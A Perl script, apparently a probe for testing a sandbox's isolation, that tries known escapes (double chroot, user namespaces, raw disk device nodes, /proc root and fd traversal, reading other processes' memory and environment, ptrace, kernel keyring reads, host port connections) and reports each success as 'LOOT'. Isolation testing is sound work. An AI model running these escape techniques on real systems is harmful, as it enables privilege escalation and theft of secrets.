# Code of a hostile ref: tries all ways out that it knows, and tells what it got as "LOOT: …".
#   perl pry.pl SECRET-TEXT|@FILE SECRET-FILE[,FILE…] WRITABLE[,PATH…] HOST:PORT[,…] ABSTRACT-SOCKET
# The image has perl alone: no modules.
my ($secret, $files, $writable, $servers, $socket) = @ARGV;
# Where processes have other numbers in /proc than they know of, one's own arguments cannot be told from those of others.
if ($secret =~ s/^\@//) {
  open my $file, '<', $secret or die $secret;
  chomp($secret = <$file>);
}
my $arm = `busybox uname -m` =~ /aarch64|arm64/;
my %number = $arm
  ? (unshare => 97, mknodat => 33, ptrace => 117, keyctl => 219)
  : (unshare => 272, mknodat => 259, ptrace => 101, keyctl => 250);
$| = 1;

sub loot { print STDERR "LOOT: @_\n" }

sub holds {
  my ($path, $what) = @_;
  open my $file, '<', $path or return 0;
  local $/;
  my $content = <$file> // '';
  return index($content, $what) >= 0;
}

# The classic way out of a chroot: a second one below leaves the working folder outside.
if (!fork) {
  mkdir '/jail';
  if (chroot '/jail') {
    loot 'chroot is allowed';
    chdir '..' for 1 .. 64;
    chroot '.';
    for (split /,/, $files) { loot "$_ after a chroot" if holds($_, $secret) }
  }
  exit;
}
wait;

# Rights of one's own: a user namespace, a mount, a device of the machine's disk.
if (!fork) {
  for my $flag (0x10000000, 0x10020000) {
    loot 'a user namespace' if syscall($number{unshare}, $flag) == 0;
  }
  exit;
}
wait;
loot 'a mount' if system('busybox mount -t tmpfs none /mnt 2>/dev/null') == 0;
for my $major (8, 253, 254, 259) {
  next if syscall($number{mknodat}, -100, "/disk$major", 0060600, $major << 8) != 0;
  loot "a device of the disk, $major" if open my $disk, '<', "/disk$major";
}

sub inside {
  my ($folder) = @_;
  opendir my $open, $folder or return;
  return map { "$folder/$_" } grep { !/^\.\.?$/ } readdir $open;
}

my @processes = grep { m{/\d+$} } inside('/proc');

# Files of the machine: by name, through other processes, through whatever is open.
my @roots = ('', '/proc/1/root', '/proc/1/cwd/../../../../../../..', '/proc/self/cwd/../../../../../..');
for my $fd (map { inside("$_/fd") } @processes) { push @roots, "$fd/../../../../../../../.." }
for my $root (@roots) {
  for (split /,/, $files) { loot "$root$_" if holds("$root$_", $secret) }
}
for my $path (split /,/, $writable) {
  loot "may write $path" if open my $file, '>>', $path;
  loot "may make a file in $path" if -d $path && open my $file, '>', "$path/evil";
  loot "may link $path" if link $path, '/linked';
}

# Environments and arguments of all processes that can be seen.
for my $file (map { ("$_/environ", "$_/cmdline") } @processes) {
  next if $file =~ m{/cmdline$} && $file =~ m{/$$/};
  loot $file if holds($file, $secret);
}

sub says {
  my ($process) = @_;
  open my $status, '<', "$process/status" or return;
  return map { /^(\w+):\s*(.*)$/ } <$status>;
}

# What a process may do, and which root it has.
sub rights {
  my ($process) = @_;
  my %says = says($process);
  my ($device, $root) = stat "$process/root/.";
  return join ' ', map { $_ // '?' } @says{qw(CapPrm CapEff CapBnd)}, $device, $root;
}

# Memory of processes that may do more, or see more, by /proc and by PTRACE_SEIZE. The parent that waits for a RUN may do the same as that.
for my $process (@processes) {
  my %says = says($process) or next;
  next if rights($process) eq rights('/proc/self');
  loot "memory of $says{Name}" if open my $memory, '<', "$process/mem";
  my ($number) = $says{NSpid} =~ /(\d+)$/;
  loot "may trace $says{Name}" if syscall($number{ptrace}, 0x4206, $number + 0, 0, 0) == 0;
}

# Keys that the same user keeps in the kernel: KEYCTL_READ of each keyring, and of each key in it.
for my $ring (map { -$_ } 1 .. 5) {
  my $bytes = syscall($number{keyctl}, 11, $ring, my $keys = "\0" x 1024, 1024);
  for my $key ($bytes < 4 ? () : unpack 'l*', substr $keys, 0, $bytes) {
    my $length = syscall($number{keyctl}, 11, $key, my $value = "\0" x 4096, 4096);
    loot "key $key of the kernel" if $length > 0 && index($value, $secret) >= 0;
  }
}

# Servers of the machine.
for (split /,/, $servers) {
  my ($host, $port) = split /:/;
  socket(my $to, 2, 1, 0) or next;
  local $SIG{ALRM} = sub { };
  alarm 2;
  loot "$host:$port answers" if connect $to, pack('S n C4 x8', 2, $port, split /\./, $host);
  alarm 0;
}
socket(my $local, 1, 1, 0);
loot 'an abstract socket' if connect $local, pack('S a*', 1, "\0$socket");

print STDERR "everything was tried\n";
